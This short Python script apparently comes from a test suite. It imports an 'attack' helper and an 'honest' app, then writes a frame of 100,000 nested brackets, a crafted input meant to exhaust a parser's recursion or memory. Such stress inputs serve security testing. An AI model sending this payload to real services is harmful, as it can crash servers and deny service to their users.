from attack import frame, write
from honest import app as app

write(frame(b"[" * 100_000 + b"]" * 100_000))
